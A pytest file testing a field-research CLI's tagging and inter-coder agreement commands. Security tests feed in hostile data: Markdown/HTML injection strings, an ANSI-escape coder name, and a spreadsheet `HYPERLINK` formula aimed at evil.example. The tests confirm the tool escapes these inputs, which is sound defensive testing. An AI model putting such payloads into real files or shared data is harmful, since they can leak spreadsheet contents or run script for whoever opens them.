"""`fieldnote tag` and `fieldnote agree`: codings from a script, agreement as text and data."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from tui.cli import main
from tui.domain.ratings import with_rating
from tui.services.team.agreement_output import FORMATS
from tui.store import DataStore


@pytest.fixture
def home(tmp_path, monkeypatch):
    monkeypatch.setenv("FIELDNOTE_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("FIELDNOTE_AUTHOR", "Maya")
    return tmp_path / "home"


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


def session_with_notes(capsys, *notes: str) -> tuple[str, list[str]]:
    _, session_id, _ = run(capsys, "new", "Team study one", "--study", "Team")
    session_id = session_id.strip()
    ids = [run(capsys, "note", session_id, text)[1].strip() for text in notes]
    return session_id, ids


def codings(home, session_id: str, note_id: str) -> list[tuple[str, str]]:
    note = next(
        n for n in DataStore(home).open_session(session_id).read().notes if n["id"] == note_id
    )
    return [(c["tag"], c["coder"]) for c in note["codings"]]


def test_tag_by_id_prefix_records_the_coder_and_removes_only_theirs(home, capsys):
    session_id, (first, second) = session_with_notes(capsys, "gave up #pain", "too dear")
    assert codings(home, session_id, first) == [("pain", "Maya")]  # typed inline: the author's
    code, out, _ = run(capsys, "tag", session_id, first[:6], "pain", "sso", "--as", "Bo")
    assert code == 0 and "#pain #sso as Bo" in out
    code, out, _ = run(capsys, "tag", session_id[:8], second[:5], "price")  # configured name
    assert code == 0
    assert codings(home, session_id, first) == [("pain", "Maya"), ("pain", "Bo"), ("sso", "Bo")]
    assert codings(home, session_id, second) == [("price", "Maya")]
    # Removing as Bo removes Bo's coding only; Maya's #pain stays.
    assert run(capsys, "tag", session_id, first[:6], "pain", "--remove", "--as", "Bo")[0] == 0
    assert codings(home, session_id, first) == [("pain", "Maya"), ("sso", "Bo")]
    # Another coder's coding is not Cy's to remove: one sentence, non-zero.
    code, _, err = run(capsys, "tag", session_id, first[:6], "sso", "--remove", "--as", "Cy")
    assert code != 0 and "coded by Bo, not by Cy" in err and "Traceback" not in err
    assert codings(home, session_id, first) == [("pain", "Maya"), ("sso", "Bo")]
    assert {t["name"] for t in DataStore(home).codebook.tags()} >= {"pain", "sso", "price"}


def test_removing_someone_elses_settlement_calls_it_a_settlement(home, capsys):
    """Lead settled how Maya and Bo differ on #pain (keeping Maya's): `tag --remove --as Bo`
    said "#pain on this note was coded by lead", which reads as lead's own coding; a
    settlement is the team's word, no one's coding, as the tagging screen's `d` says."""
    from tui.domain.codings import settled

    session_id, (first,) = session_with_notes(capsys, "gave up #pain")
    assert run(capsys, "tag", session_id, first[:6], "sso", "--as", "Bo")[0] == 0
    store = DataStore(home)
    session_file = store.open_session(session_id)
    session_file.change_note(
        first, lambda doc: settled(doc, "pain", {"Maya", "Bo"}, {"Maya"}, "lead", "t1")
    )
    session_file.close()
    before = codings(home, session_id, first)
    assert before == [("sso", "Bo"), ("pain", "lead")]

    code, _, err = run(capsys, "tag", session_id, first[:6], "pain", "--remove", "--as", "Bo")
    assert code != 0 and "Traceback" not in err
    assert "#pain on this note is lead's settlement, not a coding by Bo" in err, err
    assert "remove it with --as lead" in err and "coded by" not in err, err
    assert codings(home, session_id, first) == before

    # Lead's own coding beside the settlement: both are named, each for what it is.
    assert run(capsys, "tag", session_id, first[:6], "pain", "--as", "lead")[0] == 0
    code, _, err = run(capsys, "tag", session_id, first[:6], "pain", "--remove", "--as", "Bo")
    assert code != 0
    assert (
        "#pain on this note was coded by lead and is lead's settlement, not a coding by Bo; "
        "remove it with --as lead." in err
    ), err


def test_tag_names_a_note_that_is_missing_or_ambiguous(home, capsys):
    session_id, _ = session_with_notes(capsys, "one")
    code, _, err = run(capsys, "tag", session_id, "zzzz", "pain")
    assert code != 0 and "No note of this session has an id starting 'zzzz'" in err
    code, _, err = run(capsys, "tag", session_id, "", "pain")
    assert code != 0 and "No note was named" in err


def test_tag_refuses_a_note_that_only_marks_a_question_asked(home, capsys):
    """Such a note holds no words: it is no excerpt on any surface, yet `tag` coded it and
    said 'applied', and nothing showed the coding (the codebook screen alone counted it)."""
    session_id, (note,) = session_with_notes(capsys, "gave up on day two")
    session_file = DataStore(home).open_session(session_id)
    session_file.append_note({**session_file.read().notes[0], "id": "asked1", "kind": "asked"})
    session_file.close()
    code, out, err = run(capsys, "tag", session_id, "asked1", "pain", "--as", "Bo")
    assert code != 0 and out == "" and "Traceback" not in err
    assert "only marks a guide question asked" in err and "code a note" in err
    assert codings(home, session_id, "asked1") == []
    # Taking a coding off one stays possible (a file from before may hold one).
    assert run(capsys, "tag", session_id, note[:8], "pain", "--as", "Bo")[0] == 0


def test_agree_in_every_format(home, capsys):
    session_id, ids = session_with_notes(capsys, "a", "b", "c", "d")
    for note, coder in ((ids[0], "Ana"), (ids[0], "Bo"), (ids[1], "Ana"), (ids[2], "Bo")):
        run(capsys, "tag", session_id, note[:8], "pain", "--as", coder)
    code, out, _ = run(capsys, "agree", "--study", "team")
    assert code == 0 and "Agreement of Ana, Bo over 1 session(s), 4 notes." in out
    assert "counts as agreement on absence" in out and "Disagreements (2):" in out
    assert "nan" not in out.casefold()
    _, out, _ = run(capsys, "agree", session_id, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    pain = next(r for r in rows if r["code"] == "pain")
    assert (pain["first_notes"], pain["second_notes"], pain["both"]) == ("2", "2", "1")
    _, out, _ = run(capsys, "agree", session_id, "--format", "json")
    data = json.loads(out)
    assert data["coders"] == ["Ana", "Bo"] and len(data["disagreements"]) == 2
    _, out, _ = run(capsys, "agree", session_id, "--format", "md")
    assert out.startswith("# Inter-coder agreement") and "| pain | Ana / Bo |" in out


def test_agree_reports_the_coders_ratings_in_every_format(home, capsys):
    session_id, ids = session_with_notes(capsys, "a", "b", "c")
    for note, coder in ((ids[0], "Ana"), (ids[1], "Bo")):
        run(capsys, "tag", session_id, note[:8], "pain", "--as", coder)
    session_file = DataStore(home).open_session(session_id)
    at = "2026-12-01T10:00:00.000Z"
    for note, coder, value in (
        (ids[0], "Ana", 4),
        (ids[0], "Bo", 2),
        (ids[1], "Ana", 3),
        (ids[1], "Bo", 3),
        (ids[2], "Bo", 5),  # Bo's alone: nothing to compare
    ):
        session_file.change_note(note, lambda doc, c=coder, v=value: with_rating(doc, v, c, at))
    session_file.close()
    code, out, _ = run(capsys, "agree", session_id)
    assert code == 0
    assert "Severity ratings (1-5) of 2 excerpts (notes and spans) rated by two coders" in out
    assert "Ana/Bo: 2 rated by both, 50.0% alike, 1.00 apart on average" in out
    assert "nan" not in out.casefold()
    _, out, _ = run(capsys, "agree", session_id, "--format", "csv")
    (row,) = [r for r in csv.DictReader(io.StringIO(out)) if r["code"] == "severity ratings"]
    assert (row["first"], row["second"], row["both"], row["notes"], row["percent"]) == (
        "Ana",
        "Bo",
        "2",
        "2",
        "50.00",
    )
    _, out, _ = run(capsys, "agree", session_id, "--format", "json")
    ratings = json.loads(out)["ratings"]
    assert ratings["items"] == 2 and ratings["pairs"][0]["mean_distance"] == 1.0
    _, out, _ = run(capsys, "agree", session_id, "--format", "md")
    assert "## Severity ratings" in out and "- Ana/Bo: 2 rated by both" in out


def test_agree_with_one_coder_says_so(home, capsys):
    session_id, ids = session_with_notes(capsys, "a #pain", "b")
    code, out, _ = run(capsys, "agree", session_id)
    assert code != 0 and "only Maya has coded these sessions" in out
    code, out, _ = run(capsys, "agree", session_id, "--coders", "Maya", "Zed")
    assert code != 0 and "Zed has no codings or ratings in these sessions" in out
    assert "nan" not in out.casefold()
    code, _, err = run(capsys, "agree")
    assert code != 0 and "name the sessions to compare" in err


def test_agree_with_a_coder_who_never_coded_names_the_coders_there_are(home, capsys):
    """`--coders Zed` where only Maya coded said "only Zed has coded these sessions": the one
    name there is no coding by, as if it were the one there is."""
    session_id, _ = session_with_notes(capsys, "a #pain", "b")
    code, out, _ = run(capsys, "agree", session_id, "--coders", "Zed")
    assert code != 0 and "only Zed has coded" not in out
    assert "Zed has no codings or ratings in these sessions" in out and "coders here: Maya" in out


def test_a_coder_named_twice_is_not_compared_with_themselves(home, capsys):
    """`--coders Ana Ana` (a slip for `Ana Bo`) gave a perfect kappa and alpha of 1.000: Ana
    against Ana. A coder counts once, so that is one coder, and a sentence."""
    session_id, ids = session_with_notes(capsys, "a", "b", "c")
    for note, coder in ((ids[0], "Ana"), (ids[1], "Bo"), (ids[2], "Ana")):
        run(capsys, "tag", session_id, note[:8], "pain", "--as", coder)
    code, out, _ = run(capsys, "agree", session_id, "--coders", "Ana", "Ana")
    assert code != 0 and "1.000" not in out
    assert "Agreement needs two coders" in out
    code, out, _ = run(
        capsys, "agree", session_id, "--coders", "Ana", "Bo", "Ana", "--format", "json"
    )
    assert code == 0 and json.loads(out)["coders"] == ["Ana", "Bo"]


def test_agree_as_markdown_holds_no_html_image_or_link_from_user_text(home, capsys):
    """A title, a note and a coder's name are user text: `agree --format md` escapes them as
    `export` and `report` do, so a Markdown viewer shows them as words, never as an image, a
    link or a script."""
    from markdown_it import MarkdownIt

    _, session_id, _ = run(capsys, "new", "![t](http://evil.example/t.png)", "--study", "Team")
    session_id = session_id.strip()
    _, note_id, _ = run(
        capsys, "note", session_id, '<img src=x onerror="alert(6)"> [click](javascript:x)'
    )
    run(capsys, "tag", session_id, note_id.strip(), "pain", "--as", "<script>Ana</script>")
    run(capsys, "tag", session_id, note_id.strip(), "other", "--as", "Bo")
    code, out, _ = run(capsys, "agree", session_id, "--format", "md")
    assert code == 0 and "## Disagreements (2)" in out
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(out)
    for element in ("<img", "<a ", "<script"):
        assert element not in rendered, element
    assert "alert(6)" in rendered and "Ana" in rendered  # the words stay, as text


def test_agree_as_csv_runs_no_formula_from_a_coders_name(home, capsys):
    """Coder names are free text from a shared study: `agree --format csv` gives a cell that
    a spreadsheet would run as a formula a leading `'`, as `export --format csv` does."""
    session_id, ids = session_with_notes(capsys, "a", "b")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert run(capsys, "tag", session_id, ids[0], "pain", "--as", formula)[0] == 0
    assert run(capsys, "tag", session_id, ids[1], "pain", "--as", "@Bo")[0] == 0
    code, out, _ = run(capsys, "agree", session_id, "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    pain = next(r for r in rows if r["code"] == "pain")
    assert (pain["first"], pain["second"]) == ("'" + formula, "'@Bo")
    names = [row[column] for row in rows for column in ("code", "first", "second")]
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def test_a_file_from_before_codings_opens_with_the_coder_unknown(home, capsys):
    session_id, (note_id,) = session_with_notes(capsys, "old note")
    session_file = DataStore(home).open_session(session_id)
    (old,) = session_file.read().notes
    old = {k: v for k, v in old.items() if k != "codings"}
    session_file.append_note({**old, "tags": ["pain", "sso"]})  # as written before codings
    session_file.close()
    raw = DataStore(home).open_session(session_id).read().notes[0]
    assert "codings" not in raw  # opened and read as it is
    assert run(capsys, "tag", session_id, note_id[:6], "pain", "--as", "Bo")[0] == 0
    assert codings(home, session_id, note_id) == [
        ("pain", "unknown"),
        ("sso", "unknown"),
        ("pain", "Bo"),
    ]
    # unknown's tag is anyone's to remove; Bo's stays.
    assert run(capsys, "tag", session_id, note_id[:6], "sso", "--remove", "--as", "Cy")[0] == 0
    assert codings(home, session_id, note_id) == [("pain", "unknown"), ("pain", "Bo")]
    code, out, _ = run(capsys, "agree", session_id)
    assert code != 0 and "only Bo has coded" in out  # unknown is not a coder to compare


def test_coder_names_with_escapes_and_markup_print_as_symbols(home, capsys):
    session_id, (note_id, other) = session_with_notes(capsys, "a", "b")
    hostile = "[bold]x\x1b[31mred"
    run(capsys, "tag", session_id, note_id[:8], "pain", "--as", hostile)
    run(capsys, "tag", session_id, other[:8], "pain", "--as", "Bo")
    for fmt in ("text", "md", "csv", "json"):
        code, out, _ = run(capsys, "agree", session_id, "--format", fmt)
        shown = "\\[bold\\]x" if fmt == "md" else "[bold]x"  # Markdown shows `\[` as `[`
        assert code == 0 and "\x1b" not in out and shown in out


def test_code_blind_opens_the_tagging_screen_blind_as_the_coder(home, capsys, monkeypatch):
    import tui.cli

    session_id, _ = session_with_notes(capsys, "a")
    opened = {}

    def run_app(store, author, session_id=None, **kwargs):
        opened.update(kwargs, author=author)
        return 0

    monkeypatch.setattr(tui.cli, "_run_app", run_app)
    assert main(["code", session_id[:8], "--as", "Bo", "--blind"]) == 0
    assert opened["author"] == "Bo" and opened["blind"] is True
    assert opened["tagging"] == ("session", session_id)


def test_the_coder_is_as_else_the_configured_name_else_the_login(
    home, capsys, monkeypatch, tmp_path
):
    monkeypatch.delenv("FIELDNOTE_AUTHOR")
    monkeypatch.setenv("USER", "login")
    monkeypatch.setenv("LOGNAME", "login")
    monkeypatch.setenv("FIELDNOTE_CONFIG", str(tmp_path / "config"))
    session_id, (note_id,) = session_with_notes(capsys, "a")
    run(capsys, "tag", session_id, note_id[:8], "one")
    (tmp_path / "config").mkdir()
    (tmp_path / "config" / "config.toml").write_text('name = "Ana Lima"\n', encoding="utf-8")
    run(capsys, "tag", session_id, note_id[:8], "two")
    run(capsys, "tag", session_id, note_id[:8], "three", "--as", "Bo")
    assert codings(home, session_id, note_id) == [
        ("one", "login"),
        ("two", "Ana Lima"),
        ("three", "Bo"),
    ]
    (tmp_path / "config" / "config.toml").write_text("name = 3\n", encoding="utf-8")
    code, _, err = run(capsys, "tag", session_id, note_id[:8], "four")
    assert code != 0 and "name must be your name" in err and "Traceback" not in err


def test_line_breaks_a_file_holds_keep_each_agreement_row_on_one_line(home, capsys):
    """A title and a coder's name with line breaks (a hand edit, an import from another tool)
    split the text table's rows and the disagreement lines, which the Markdown output folds."""
    from tui.store.storage import journal_path, read_tables

    session_id, (first, second) = session_with_notes(capsys, "a", "b")
    run(capsys, "tag", session_id, first[:8], "pain", "--as", "Ana")
    run(capsys, "tag", session_id, second[:8], "pain", "--as", "Bo")
    path = home / "sessions" / f"{session_id}.json"
    data = read_tables(path)
    data["session"]["1"]["title"] = "Hand\nedited"
    for note in data["notes"].values():
        for coding in note["codings"]:
            coding["coder"] = coding["coder"].replace("Bo", "B\no")
    path.write_text(json.dumps(data))
    journal_path(path).unlink(missing_ok=True)
    code, out, _ = run(capsys, "agree", session_id)
    assert code == 0
    rows = [line for line in out.splitlines() if line.startswith(("all codes", "pain"))]
    assert len(rows) == 2 and all("Ana/B\u23ceo" in row for row in rows)
    lines = [line for line in out.splitlines() if line.startswith("  ")]
    assert len(lines) == 2 and all(line.startswith("  Hand\u23ceedited 00:00") for line in lines)


def three_coders(home, capsys) -> str:
    """Maya, Bo and Cy code one session for real (`fieldnote tag --as`); Cy alone uses #sso."""
    session_id, ids = session_with_notes(capsys, *(f"note {i}" for i in range(8)))
    for tag, coder, notes in (
        ("pain", "Maya", (0, 1, 2, 3)),
        ("pain", "Bo", (0, 1, 2, 4)),
        ("pain", "Cy", (0, 5, 6)),
        ("price", "Maya", (5,)),
        ("price", "Bo", (5, 6)),
        ("sso", "Cy", (1, 2)),
    ):
        for i in notes:
            assert run(capsys, "tag", session_id, ids[i][:8], tag, "--as", coder)[0] == 0
    session_file = DataStore(home).open_session(session_id)
    at = "2026-12-01T10:00:00.000Z"
    for i, coder, value in ((0, "Maya", 4), (0, "Bo", 2), (1, "Maya", 3), (1, "Bo", 3)):
        session_file.change_note(ids[i], lambda doc, c=coder, v=value: with_rating(doc, v, c, at))
    for i, value in ((0, 5), (1, 1), (2, 4)):
        session_file.change_note(ids[i], lambda doc, v=value: with_rating(doc, v, "Cy", at))
    session_file.close()
    return session_id


def maya_and_bo(capsys, *argv: str) -> dict[str, dict]:
    """What each format says of the pair Bo/Maya (A is the coder whose name comes first):
    format -> code (or ratings) -> figures."""
    said: dict[str, dict] = {}
    for fmt in FORMATS:
        code, out, _ = run(capsys, "agree", *argv, "--format", fmt)
        assert code == 0
        if fmt == "json":
            data = json.loads(out)
            rows = {c["code"]: c for c in [data["study"], *data["codes"]]}
            said[fmt] = {
                name: pair
                for name, c in rows.items()
                for pair in c["pairs"]
                if (pair["first"], pair["second"]) == ("Bo", "Maya")
            }
            said[fmt]["severity ratings"] = next(
                p for p in data["ratings"]["pairs"] if (p["first"], p["second"]) == ("Bo", "Maya")
            )
        elif fmt == "csv":  # the figures: what was settled is not one
            said[fmt] = {
                r["code"]: {k: v for k, v in r.items() if k != "settled"}
                for r in csv.DictReader(io.StringIO(out))
                if (r["first"], r["second"]) == ("Bo", "Maya")
            }
        else:
            lines = out.splitlines()
            cells = [[c.strip() for c in line.strip("| ").split(" | ")] for line in lines]
            if fmt == "text":
                cells = [line.split("  ") for line in lines]
                cells = [[c.strip() for c in row if c.strip()] for row in cells]
            pair = "Bo / Maya" if fmt == "md" else "Bo/Maya"
            said[fmt] = {row[0]: row[2:] for row in cells if len(row) > 2 and row[1] == pair}
            said[fmt]["severity ratings"] = next(line for line in lines if "Bo/Maya: " in line)
    return said


def test_a_pairs_figures_per_code_are_its_own_whoever_else_is_compared(home, capsys):
    """With three coders, each pair's alpha per code was the alpha of all three (Maya/Bo on
    #pain: 0.035 where `--coders Maya Bo` and the agreement screen said 0.531). A pair's every
    figure is now its own, in every format; the alpha over everyone is a line of its own."""
    session_id = three_coders(home, capsys)
    everyone = maya_and_bo(capsys, session_id)
    two = maya_and_bo(capsys, session_id, "--coders", "Maya", "Bo")
    for fmt in FORMATS:
        for code in ("pain", "price", "severity ratings"):
            assert everyone[fmt][code] == two[fmt][code], (fmt, code)
    assert two["json"]["pain"]["alpha"] == pytest.approx(1 - (4 / 16) / (2 * 8 * 8 / (16 * 15)))
    # The alpha of all three coders, labelled as such.
    _, out, _ = run(capsys, "agree", session_id, "--format", "json")
    pain = next(c for c in json.loads(out)["codes"] if c["code"] == "pain")
    assert pain["alpha_all_coders"] != pytest.approx(pain["pairs"][0]["alpha"])
    _, out, _ = run(capsys, "agree", session_id)
    (line,) = [line for line in out.splitlines() if line.startswith("pain") and "all 3" in line]
    assert f"{pain['alpha_all_coders']:.3f}" in line
    _, out, _ = run(capsys, "agree", session_id, "--format", "csv")
    (row,) = [r for r in csv.DictReader(io.StringIO(out)) if r["code"] == "pain" and not r["first"]]
    assert float(row["alpha"]) == pytest.approx(pain["alpha_all_coders"], abs=1e-4)


def test_a_pairs_pooled_figures_do_not_move_with_who_else_is_compared(home, capsys):
    """The "all codes" row of Maya/Bo pooled every code any coder used: Cy's #sso, which
    neither of them used, added 8 notes of agreement on absence (87.5% with Cy compared, 81.2%
    without). A pair pools the codes either of the two used, and has no row for any other."""
    session_id = three_coders(home, capsys)
    everyone = maya_and_bo(capsys, session_id)
    two = maya_and_bo(capsys, session_id, "--coders", "Maya", "Bo")
    for fmt in FORMATS:
        assert everyone[fmt]["all codes"] == two[fmt]["all codes"], fmt
        assert "sso" not in everyone[fmt]  # neither of the two used it: no figures of theirs
    # pain and price over 8 notes: Maya 5 yes, Bo 6, both 4, neither 9.
    assert two["json"]["all codes"]["notes"] == 16
    assert two["json"]["all codes"]["percent"] == pytest.approx(100 * 13 / 16)


def test_agree_over_ratings_alone_says_there_are_no_codings_and_gives_the_ratings(home, capsys):
    # Ana and Bo rated but tagged nothing: an "all codes" row of 0 notes read as figures.
    session_id, ids = session_with_notes(capsys, "a", "b", "c")
    session_file = DataStore(home).open_session(session_id)
    at = "2026-12-01T10:00:00.000Z"
    for note, coder, value in ((ids[0], "Ana", 4), (ids[0], "Bo", 2), (ids[1], "Ana", 3)):
        session_file.change_note(note, lambda doc, c=coder, v=value: with_rating(doc, v, c, at))
    session_file.change_note(ids[1], lambda doc: with_rating(doc, 3, "Bo", at))
    session_file.close()
    code, out, _ = run(capsys, "agree", session_id)
    assert code == 0
    assert "all codes" not in out and "kappa" not in out, out
    assert "There are no codings to compare: Ana and Bo tagged no note here" in out
    assert "Ana/Bo: 2 rated by both, 50.0% alike" in out
    _, out, _ = run(capsys, "agree", session_id, "--format", "md")
    assert "all codes" not in out and "| code |" not in out
    assert "There are no codings to compare" in out and "- Ana/Bo: 2 rated by both" in out
    _, out, _ = run(capsys, "agree", session_id, "--format", "csv")
    assert [r["code"] for r in csv.DictReader(io.StringIO(out))] == ["severity ratings"]
    _, out, _ = run(capsys, "agree", session_id, "--format", "json")
    data = json.loads(out)
    assert data["study"] is None and data["codes"] == [] and data["ratings"]["items"] == 2


def test_a_pair_of_three_coders_that_tagged_nothing_gets_a_sentence_not_a_row(home, capsys):
    """Maya tags, Bo and Cy only rate: the pair Bo/Cy had an "all codes" row of 0 notes
    (0.0%, n/a) that read as figures. It gets a sentence instead, in every format."""
    session_id, ids = session_with_notes(capsys, "a", "b", "c")
    run(capsys, "tag", session_id, ids[0][:8], "pain", "--as", "Maya")
    session_file = DataStore(home).open_session(session_id)
    at = "2026-12-01T10:00:00.000Z"
    for note, coder, value in ((ids[0], "Bo", 3), (ids[0], "Cy", 4), (ids[1], "Bo", 2)):
        session_file.change_note(note, lambda doc, c=coder, v=value: with_rating(doc, v, c, at))
    session_file.change_note(ids[1], lambda doc: with_rating(doc, 2, "Cy", at))
    session_file.close()
    said = "Bo and Cy tagged no note here, so the pair has no code figures"
    out = {fmt: run(capsys, "agree", session_id, "--format", fmt)[1] for fmt in FORMATS}
    for fmt in ("text", "md"):
        rows = [line for line in out[fmt].splitlines() if "Bo/Cy" in line or "Bo / Cy" in line]
        # The ratings' line alone: no "all codes" row of 0 notes.
        assert [row.strip("- ")[:29] for row in rows] == ["Bo/Cy: 2 rated by both, 50.0%"], rows
        assert said in out[fmt], out[fmt]
        assert "all codes" in out[fmt] and "Maya" in out[fmt]  # the other pairs keep theirs
    rows = list(csv.DictReader(io.StringIO(out["csv"])))
    assert [r["code"] for r in rows if (r["first"], r["second"]) == ("Bo", "Cy")] == [
        "severity ratings"
    ]
    data = json.loads(out["json"])
    pairs = [(p["first"], p["second"]) for c in [data["study"], *data["codes"]] for p in c["pairs"]]
    assert ("Bo", "Cy") not in pairs and ("Bo", "Maya") in pairs
    (uncoded,) = data["uncoded_pairs"]
    assert (uncoded["first"], uncoded["second"]) == ("Bo", "Cy") and said in uncoded["said"]


def test_tag_refuses_a_new_tag_that_reads_as_one_in_the_codebook(home, capsys):
    """`need/shàred-view` beside `need/shared-view` split the codings between two tags that
    read the same; the picker asks first, the CLI applied it silently."""
    session_id, (note,) = session_with_notes(capsys, "the view #need/shared-view")
    for lookalike in ("need/shàred-view", "Need/Shared_View"):
        code, out, err = run(capsys, "tag", session_id, note[:8], "pain", lookalike, "--as", "Bo")
        assert code != 0 and out == "" and "Traceback" not in err, err
        assert "#need/shared-view exists and differs only in case, accents or separators" in err
        assert "--new-tag" in err, err
    assert codings(home, session_id, note) == [("need/shared-view", "Maya")]  # nothing applied
    assert {t["name"] for t in DataStore(home).codebook.tags()} == {"need/shared-view"}
    # The same tag in other case is that tag (as before); --new-tag creates the look-alike.
    assert run(capsys, "tag", session_id, note[:8], "NEED/shared-view", "--as", "Bo")[0] == 0
    code, out, _ = run(
        capsys, "tag", session_id, note[:8], "need/shàred-view", "--new-tag", "--as", "Bo"
    )
    assert code == 0 and "#need/shàred-view as Bo" in out
    assert {t["name"] for t in DataStore(home).codebook.tags()} == {
        "need/shared-view",
        "need/shàred-view",
    }


def test_agree_after_settling_gives_the_same_figures_and_says_what_was_settled(home, capsys):
    # Settled as `team`, a disagreement gave `team` a coding: `agree` then compared team as a
    # coder, and Maya and Bo's figures climbed with each disagreement settled.
    from tui.services.team.agreement import compute, load, resolve

    session_id = three_coders(home, capsys)
    before = maya_and_bo(capsys, session_id)
    _, text_before, _ = run(capsys, "agree", session_id)
    assert "Disagreements (10):" in text_before
    store = DataStore(home)
    pair = compute(load(store, [session_id]), ["Maya", "Bo"])
    for number, found in enumerate(pair.disagreements):
        keep = ("first", "second", "both", "neither")[number % 4]
        resolve(store, found, "Maya", "Bo", keep, "team", f"2026-12-02T10:0{number}:00.000Z")
    settled = len(pair.disagreements)
    assert settled == 3

    assert maya_and_bo(capsys, session_id) == before
    _, text, _ = run(capsys, "agree", session_id)
    assert "Agreement of Bo, Cy, Maya over 1 session(s), 8 notes." in text  # no `team`
    said = (
        f"{settled} disagreements settled by team; figures are of each coder's own codings, "
        "as they made them."
    )
    assert said in text
    # The table is the same; only the list and the sentence differ.
    assert (
        text.replace(said + "\n", "").split("Disagreements")[0]
        == (text_before.split("Disagreements")[0])
    )
    _, md, _ = run(capsys, "agree", session_id, "--format", "md")
    assert said in md
    _, out, _ = run(capsys, "agree", session_id, "--format", "json")
    data = json.loads(out)
    assert data["coders"] == ["Bo", "Cy", "Maya"]
    assert data["settled"] == {"disagreements": settled, "by": {"team": settled}, "said": said}
    assert "team" not in {c for d in data["disagreements"] for c in d["codings"]}
    _, out, _ = run(capsys, "agree", session_id, "--coders", "Maya", "Bo")
    assert "Disagreements (0):" in out and said in out


def _settled_in_text(out: str) -> int:
    """The number the text's settled line gives (0 without one)."""
    found = re.search(r"^(\d+) disagreements? settled", out, re.MULTILINE)
    return int(found.group(1)) if found else 0


def test_agree_as_csv_says_how_many_were_settled_as_the_text_does(home, capsys):
    """`agree --format csv` had fixed columns and no word of what was settled: a reader of
    the CSV alone could not tell that the list behind its figures was partly the team's. A
    last column `settled` now gives it: on a pair's rows the number the agreement screen and
    `--coders A B` give the pair, on the rows naming no coder the number of the text's line,
    also where a third coder coded again since (settled for the pair, not for all three)."""
    from tui.services.team.agreement import compute, load, resolve

    session_id = three_coders(home, capsys)
    _, before, _ = run(capsys, "agree", session_id, "--format", "csv")
    store = DataStore(home)
    pair = compute(load(store, [session_id]), ["Maya", "Bo"])
    for number, found in enumerate(pair.disagreements):
        keep = ("first", "second", "both", "neither")[number % 4]
        resolve(store, found, "Maya", "Bo", keep, "team", f"2026-12-02T10:0{number}:00.000Z")
    _, out, _ = run(capsys, "agree", session_id, "--format", "csv")
    columns = "code,first,second,first_notes,second_notes,both,notes,percent,kappa,alpha"
    assert out.splitlines()[0] == f"{columns},char_overlap,settled"  # the old ones in place
    figures = [
        [{k: v for k, v in r.items() if k != "settled"} for r in csv.DictReader(io.StringIO(o))]
        for o in (before, out)
    ]
    assert figures[0] == figures[1]  # settling moves no figure
    third = next(d for d in pair.disagreements if d.key == "pain" and "Maya" in d.having)
    note = third.unit.note["id"]
    assert run(capsys, "tag", session_id, note[:8], "pain", "--as", "Cy")[0] == 0

    _, out, _ = run(capsys, "agree", session_id, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    _, text, _ = run(capsys, "agree", session_id)
    everyone = next(r for r in rows if r["code"] == "all codes" and not r["first"])
    assert int(everyone["settled"]) == _settled_in_text(text) == 2
    for first, second in (("Bo", "Cy"), ("Bo", "Maya"), ("Cy", "Maya")):
        (row,) = [
            r
            for r in rows
            if r["code"] == "all codes" and (r["first"], r["second"]) == (first, second)
        ]
        _, alone, _ = run(capsys, "agree", session_id, "--coders", first, second)
        assert int(row["settled"]) == _settled_in_text(alone), (first, second)
    bo_maya = {r["code"]: r["settled"] for r in rows if (r["first"], r["second"]) == ("Bo", "Maya")}
    # settled for the two though Cy coded note 3 again; the ratings are never settled
    assert bo_maya == {"all codes": "3", "pain": "2", "price": "1", "severity ratings": ""}


def test_a_note_taker_who_only_typed_tags_is_not_compared_unless_named(home, capsys):
    """Two coders coded a study blind; the note-taker had typed `#tags` into her notes as she
    took them. `agree --study` compared all three: every note Maya took and did not tag read
    as Ana's and Bo's disagreement with her, burying the pair's own disagreements."""
    session_id, notes = session_with_notes(
        capsys, "gave up on day two #pain", "too dear for a team of three", "setup took a week"
    )
    for coder, picks in (("Ana", [(0, "pain"), (1, "price")]), ("Bo", [(0, "pain"), (2, "slow")])):
        for at, tag in picks:
            assert run(capsys, "tag", session_id, notes[at][:8], tag, "--as", coder)[0] == 0
    code, out, _ = run(capsys, "agree", "--study", "Team")
    assert code == 0
    assert out.startswith("Agreement of Ana, Bo over 1 session(s), 3 notes.")
    assert (
        "Not compared: Maya, whose only codings are tags typed into their own notes as they "
        "took them; name them with --coders to compare them too."
    ) in out
    # Named, she is compared; and the pair's figures are the same either way.
    _, named, _ = run(capsys, "agree", "--study", "Team", "--coders", "Ana", "Bo", "Maya")
    assert named.startswith("Agreement of Ana, Bo, Maya") and "Not compared" not in named
    # A tag she codes on the tagging screen (here, `fieldnote tag`) makes her a coder.
    assert run(capsys, "tag", session_id, notes[1][:8], "price")[0] == 0
    _, now, _ = run(capsys, "agree", "--study", "Team")
    assert now.startswith("Agreement of Ana, Bo, Maya") and "Not compared" not in now


def test_with_one_coder_besides_the_note_taker_the_two_are_compared(home, capsys):
    session_id, notes = session_with_notes(capsys, "gave up on day two #pain", "too dear")
    assert run(capsys, "tag", session_id, notes[1][:8], "price", "--as", "Ana")[0] == 0
    code, out, _ = run(capsys, "agree", "--study", "Team")
    assert code == 0 and out.startswith("Agreement of Ana, Maya") and "Not compared" not in out


def test_json_lists_the_note_takers_not_compared(home, capsys):
    session_id, notes = session_with_notes(capsys, "gave up on day two #pain", "too dear")
    for coder in ("Ana", "Bo"):
        assert run(capsys, "tag", session_id, notes[1][:8], "price", "--as", coder)[0] == 0
    _, out, _ = run(capsys, "agree", "--study", "Team", "--format", "json")
    found = json.loads(out)
    assert found["coders"] == ["Ana", "Bo"] and found["not_compared"] == ["Maya"]


def test_a_disagreement_gives_its_place_on_the_recording_as_the_report_does(home, capsys):
    """`agree` gave a note's time on the session's clock (`00:00`) where the report and the
    analysis cite its place on the recording (`00:08` with an 8-second offset): a researcher
    cross-checking saw two times for one note. Where the recording is offset, both show."""
    session_id, notes = session_with_notes(capsys, "gave up on day two", "too dear")
